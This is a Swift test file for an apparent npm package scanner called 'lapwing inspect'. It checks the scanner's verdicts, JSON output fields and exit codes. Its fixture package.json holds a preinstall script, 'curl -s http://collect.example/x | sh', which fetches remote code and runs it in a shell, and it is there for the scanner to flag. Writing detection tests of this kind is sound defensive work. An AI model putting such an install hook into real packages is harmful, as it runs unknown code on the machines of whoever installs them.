// SPDX-License-Identifier: Apache-2.0

import Foundation
import NPMModel
import Testing

@Suite("lapwing inspect")
struct InspectTests {
    private static let files = [
        "package.json":
            #"{"name":"sample","version":"1.0.0","scripts":{"preinstall":"curl -s http://collect.example/x | sh"}}"#,
        "index.js": "module.exports = 1\n",
    ]

    private func scratch() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appending(path: "lapwing-inspect-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder.appending(path: "sample"), withIntermediateDirectories: true)
        for (name, text) in Self.files { try Data(text.utf8).write(to: folder.appending(path: "sample/\(name)")) }
        try Data(TarballWriter.tarball(of: Self.files)).write(to: folder.appending(path: "sample.tgz"))
        return folder
    }

    @Test("A tarball and the folder it was made of are judged alike, in the documented form, and end with 1")
    func judgesAlike() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        let result = try await Program.run(
            "inspect", folder.appending(path: "sample.tgz").path, folder.appending(path: "sample").path, "--format", "json")
        #expect(result.status == 1)
        let root = try JSONDocument(result.output).root
        #expect(root["version"]?.integer == 1)
        let releases = root["releases"]?.elements.map { $0 } ?? []
        #expect(releases.map { $0["release"]?.string } == ["sample@1.0.0", "sample@1.0.0"])
        #expect(Set(releases.map { $0["verdict"]?.string }).count == 1)
        #expect(releases.map { $0["bits"]?.double } == [releases[0]["bits"]?.double, releases[0]["bits"]?.double])
        #expect(["suspicious", "dangerous"].contains(releases[0]["verdict"]?.string))
        let finding = try #require(releases[0]["findings"]?.elements.first { _ in true })
        for member in ["id", "title", "severity", "bits", "evidence"] { #expect(finding[member] != nil, "\(member)") }
        #expect(releases[0]["unread"]?.count == 0)
    }

    @Test("What cannot be read ends with 3 and says so; nothing named ends with 2")
    func couldNotLook() async throws {
        let folder = try scratch()
        defer { try? FileManager.default.removeItem(at: folder) }
        try Data("no archive".utf8).write(to: folder.appending(path: "broken.tgz"))
        let broken = try await Program.run("inspect", folder.appending(path: "broken.tgz").path)
        #expect(broken.status == 3)
        #expect(broken.errors.contains("broken.tgz"))
        #expect(try await Program.run("inspect").status == 2)
    }
}
